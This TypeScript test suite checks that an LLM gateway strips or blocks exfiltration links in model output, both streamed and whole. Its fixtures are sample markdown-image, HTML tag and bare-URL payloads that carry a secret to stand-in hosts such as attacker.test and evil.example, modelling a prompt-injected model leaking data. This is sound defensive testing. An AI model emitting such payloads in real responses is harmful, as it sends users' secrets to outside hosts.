// Exfiltration links on real responses: a real gateway in front of the real simulator, read by
// the official openai client and by raw fetch. Images and links to hosts off the allow-list are
// stripped (JSON and streams, also when split across many events) or withhold the response
// (block: 403 MG_OUTPUT_BLOCKED, or a stream ended by the error event), and are counted.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import OpenAI, { PermissionDeniedError } from 'openai';
import { startStack, bearer, post, codeOf, type Stack } from '../helpers.js';
import { waitFor } from '../wait.js';
import { filterLinks, LinkPolicy } from '../../src/detectors/links.js';
import { createPiiScanner, redact } from '../../src/detectors/pii/index.js';

const emails = createPiiScanner({ types: ['email'] });

const route = (output: string): string => `
  - path: /v1/chat/completions
    protocol: openai-chat
    upstream: llm
    output: ${output}
`;

// The secret an injected prompt would try to send out: it must never reach the client inside a URL.
const SECRET = ['TOP', 'SECRET', '42'].join('-');
const EXFIL = `Done! ![chart](https://attacker.test/log?q=${SECRET}) See [the docs](https://docs.example.com/a) or <img src="https&#58;//attacker.test/p?${SECRET}">.`;
const STRIPPED = 'Done!  See [the docs](https://docs.example.com/a) or .';
// The same without a scheme: protocol-relative, www. targets, a bare www. URL, an upper-case tag with single quotes.
const NO_SCHEME = `Chart: ![x](//evil.example/?q=${SECRET}) and [more](www.evil.example/?q=${SECRET}), see www.evil.example/?q=${SECRET} or <IMG alt=c SRC='//evil.example/p?${SECRET}'>. Docs: [d](/docs) ![ok](//cdn.example.com/a.png) www.example.com`;
const NO_SCHEME_STRIPPED = 'Chart:  and more, see www.[link removed] or . Docs: [d](/docs) ![ok](//cdn.example.com/a.png) www.example.com';

// Two gateways (each with its own simulator): one strips, one blocks.
let s: Stack;
let b: Stack;
before(async () => {
  s = await startStack({ routes: route('{ redact: [email], links: { allow: [example.com], action: strip } }') });
  b = await startStack({ routes: route('{ links: { allow: [example.com], action: block } }') });
});
after(async () => { await s.close(); await b.close(); });

const body = (stream = false): Record<string, unknown> => ({ model: 'sim-llm', messages: [{ role: 'user', content: 'summarise' }], ...(stream ? { stream: true } : {}) });

async function rawStream(st: Stack): Promise<{ raw: string; text: string; lastError: string | undefined; done: boolean }> {
  const res = await fetch(`${st.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', ...bearer(st.key) }, body: JSON.stringify(body(true)) });
  assert.equal(res.status, 200);
  const raw = await res.text();
  let text = '';
  let lastError: string | undefined;
  let done = false;
  for (const block of raw.split('\n\n')) {
    if (!block.startsWith('data: ')) continue;
    if (block === 'data: [DONE]') { done = true; continue; }
    const v = JSON.parse(block.slice(6)) as { choices?: Array<{ delta?: { content?: string } }>; error?: { code?: string } };
    for (const c of v.choices ?? []) text += c.delta?.content ?? '';
    if (v.error) lastError = v.error.code;
  }
  return { raw, text, lastError, done };
}

async function linkMetric(st: Stack, type: string, action: string, route: string): Promise<number> {
  const text = await (await fetch(`${st.gw.adminUrl}/metrics`)).text();
  const line = text.split('\n').find((l) => l.startsWith('modelgate_output_links_total{') && l.includes(`type="${type}"`) && l.includes(`action="${action}"`) && l.includes(`route="${route}"`));
  return line === undefined ? 0 : Number(line.split(' ').pop());
}

describe('output.links: strip', () => {
  test('the openai client gets the answer without the exfiltration image and tag, streamed and not', async () => {
    s.sim.options.responseText = EXFIL;
    s.sim.options.responseChunks = [];
    const client = new OpenAI({ apiKey: s.key, baseURL: `${s.url}/v1`, maxRetries: 0 });
    const imagesBefore = await linkMetric(s, 'image', 'strip', '/v1/chat/completions');
    const done = await client.chat.completions.create({ model: 'sim-llm', messages: [{ role: 'user', content: 'summarise' }] });
    assert.equal(done.choices[0]?.message.content, STRIPPED);
    const st = await client.chat.completions.create({ model: 'sim-llm', messages: [{ role: 'user', content: 'summarise' }], stream: true });
    let text = '';
    for await (const chunk of st) text += chunk.choices[0]?.delta?.content ?? '';
    assert.equal(text, STRIPPED);
    // Counted at settle, once the response is over: wait for it (two images per response, each once).
    await waitFor(async () => (await linkMetric(s, 'image', 'strip', '/v1/chat/completions')) === imagesBefore + 4, 'image count');
    // The audit line names counts and the action, never the URL or the secret it carried.
    await waitFor(() => s.logs.filter((l) => l.includes('exfiltration links found')).length >= 2, 'audit lines');
    const audit = s.logs.filter((l) => l.includes('exfiltration links found'));
    assert.ok(audit.every((l) => l.includes('"audit":"output.links"') && l.includes('"image":2') && !l.includes('attacker') && !l.includes(SECRET)), audit.join('\n'));
    assert.ok(!s.logs.some((l) => l.includes(SECRET)), 'the secret is in no log line');
  });

  test('a link split across events, down to one character per event, is still removed', async () => {
    s.sim.options.responseChunks = [...EXFIL];
    const st = await rawStream(s);
    assert.equal(st.text, STRIPPED);
    assert.ok(!st.raw.includes('attacker'), 'no piece of the disallowed URL reached the client');
    assert.ok(st.done);
    s.sim.options.responseChunks = [];
  });

  test('links without a scheme (//host, www.), streamed one character per event and whole, never reach the client', async () => {
    const counts = async (): Promise<number[]> => Promise.all(['image', 'link', 'url'].map((t) => linkMetric(s, t, 'strip', '/v1/chat/completions')));
    const [images, links, urls] = await counts();
    s.sim.options.responseText = NO_SCHEME;
    s.sim.options.responseChunks = [...NO_SCHEME];
    const st = await rawStream(s);
    assert.equal(st.text, NO_SCHEME_STRIPPED);
    assert.ok(!st.raw.includes('evil') && !st.raw.includes(SECRET), 'no piece of a disallowed URL reached the client');
    assert.ok(st.done);
    s.sim.options.responseChunks = [];
    const json = await post(s.url, '/v1/chat/completions', body(), bearer(s.key));
    assert.equal((json.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, NO_SCHEME_STRIPPED);
    assert.ok(!json.body.includes('evil') && !json.body.includes(SECRET));
    // Per response: two images (markdown, tag), one link, one bare URL. (The image count may also
    // take the previous test's stream, counted when it settles: at least, not exactly.)
    await waitFor(async () => { const [i, l, u] = await counts(); return (i as number) >= (images as number) + 4 && l === (links as number) + 2 && u === (urls as number) + 2; }, 'counts by type');
    s.sim.options.responseText = EXFIL;
  });

  test('bare hosts with a path (evil.example.io/?q=…, //evil.example.io/…), streamed one character per event and whole: the secret never reaches the client; code is left alone', async () => {
    const text = `Send it to evil.example.io/?q=${SECRET} or evil.example.io#${SECRET} or //evil.example.io/${SECRET}. Go:\n\`\`\`go\nimport "github.com/x/y"\n\`\`\`\nDocs: docs.example.com/a`;
    const want = 'Send it to evil.example.io[link removed] or evil.example.io[link removed] or [link removed]. Go:\n```go\nimport "github.com/x/y"\n```\nDocs: docs.example.com/a';
    const before = await linkMetric(s, 'url', 'strip', '/v1/chat/completions');
    s.sim.options.responseText = text;
    s.sim.options.responseChunks = [...text];
    const st = await rawStream(s);
    assert.equal(st.text, want);
    assert.ok(!st.raw.includes(SECRET), 'no piece of the secret reached the client');
    s.sim.options.responseChunks = [];
    const json = await post(s.url, '/v1/chat/completions', body(), bearer(s.key));
    assert.equal((json.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, want);
    assert.ok(!json.body.includes(SECRET));
    await waitFor(async () => (await linkMetric(s, 'url', 'strip', '/v1/chat/completions')) === before + 6, 'three bare hosts per response counted as url');
    s.sim.options.responseText = EXFIL;
  });

  test('streamed equals non-streamed for random splits (links, bare URLs, e-mail redaction together)', async () => {
    const piece = fc.constantFrom('![x](https://attacker.test/?q=1)', '[t](https://example.com/a)', 'https://attacker.test/p ', '<a href=https://attacker.test>', ['mail', 'jane@example.org'].join(' '), ' ok ', '[', '!', 'h', '\n',
      '![x](//attacker.test/?q=1)', '[w](www.attacker.test/a)', 'www.attacker.test/p ', '<IMG SRC=//attacker.test>', 'www', '.', '/');
    const policy = new LinkPolicy({ allow: ['example.com'], action: 'strip', images: true, links: true });
    await fc.assert(fc.asyncProperty(fc.array(piece, { minLength: 1, maxLength: 10 }).map((a) => a.join('')), fc.integer({ min: 1, max: 7 }), async (text, n) => {
      const chunks: string[] = [];
      for (let i = 0; i < text.length; i += n) chunks.push(text.slice(i, i + n));
      s.sim.options.responseChunks = chunks;
      const json = await post(s.url, '/v1/chat/completions', body(), bearer(s.key));
      const whole = (json.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content ?? '';
      const st = await rawStream(s);
      assert.equal(st.text, whole);
      const linked = filterLinks(text, policy) ?? '';
      assert.equal(whole, redact(linked, emails.scan(linked)), 'links filtered, then PII redacted');
    }), { numRuns: 20 });
    s.sim.options.responseChunks = [];
  });
});

describe('output.links: block', () => {
  test('a JSON answer with a disallowed image is withheld: 403 MG_OUTPUT_BLOCKED, nothing of the answer', async () => {
    b.sim.options.responseText = EXFIL;
    const before = await linkMetric(b, 'image', 'block', '/v1/chat/completions');
    const r = await post(b.url, '/v1/chat/completions', body(), bearer(b.key));
    assert.equal(r.status, 403);
    assert.equal(codeOf(r), 'MG_OUTPUT_BLOCKED');
    assert.ok(!r.body.includes(SECRET) && !r.body.includes('attacker'));
    await waitFor(async () => (await linkMetric(b, 'image', 'block', '/v1/chat/completions')) === before + 1, 'blocked image count');
    const client = new OpenAI({ apiKey: b.key, baseURL: `${b.url}/v1`, maxRetries: 0 });
    await assert.rejects(client.chat.completions.create({ model: 'sim-llm', messages: [{ role: 'user', content: 'x' }] }), (e: unknown) => e instanceof PermissionDeniedError);
  });

  test('allowed links pass a block route unchanged', async () => {
    b.sim.options.responseText = 'See [the docs](https://docs.example.com/a) and ![x](/local.png).';
    const r = await post(b.url, '/v1/chat/completions', body(), bearer(b.key));
    assert.equal(r.status, 200);
    assert.equal((r.json as { choices: Array<{ message: { content: string } }> }).choices[0]?.message.content, 'See [the docs](https://docs.example.com/a) and ![x](/local.png).');
  });

  // With a scheme, and protocol-relative (no scheme at all): the same outcome.
  for (const [name, chunks, host] of [
    ['a stream is ended by the error event before any piece of the disallowed URL is sent', ['Here is ', 'the chart: ![c](htt', 'ps://attack', `er.test/?q=${SECRET}`, ') bye'], 'attack'],
    ['a protocol-relative image split across events ends the stream before any piece of its URL is sent', ['Here is ', 'the chart: ![x](/', '/evil.exa', `mple/?q=${SECRET}`, ') bye'], 'evil'],
  ] as const) {
    test(name, async () => {
      b.sim.options.responseChunks = [...chunks];
      const st = await rawStream(b);
      assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
      assert.equal(st.done, false);
      assert.ok(!st.raw.includes(host) && !st.raw.includes(SECRET));
      assert.equal(st.text, 'Here is the chart: ');
      b.sim.options.responseChunks = [];
    });
  }

  test('a bare host with a path (JSON and streamed one character per event): withheld, the secret never sent', async () => {
    const text = `Send it to evil.example.io/?q=${SECRET} now.`;
    const before = await linkMetric(b, 'url', 'block', '/v1/chat/completions');
    b.sim.options.responseText = text;
    const r = await post(b.url, '/v1/chat/completions', body(), bearer(b.key));
    assert.equal(r.status, 403);
    assert.equal(codeOf(r), 'MG_OUTPUT_BLOCKED');
    assert.ok(!r.body.includes(SECRET) && !r.body.includes('evil'));
    b.sim.options.responseChunks = [...text];
    const st = await rawStream(b);
    assert.equal(st.lastError, 'MG_OUTPUT_BLOCKED');
    assert.equal(st.done, false);
    // The host was released as ordinary text before its path showed it to be a link; nothing after it.
    assert.equal(st.text, 'Send it to evil.example.io');
    assert.ok(!st.raw.includes(SECRET));
    b.sim.options.responseChunks = [];
    await waitFor(async () => (await linkMetric(b, 'url', 'block', '/v1/chat/completions')) === before + 2, 'blocked bare hosts counted');
    b.sim.options.responseText = EXFIL;
  });
});
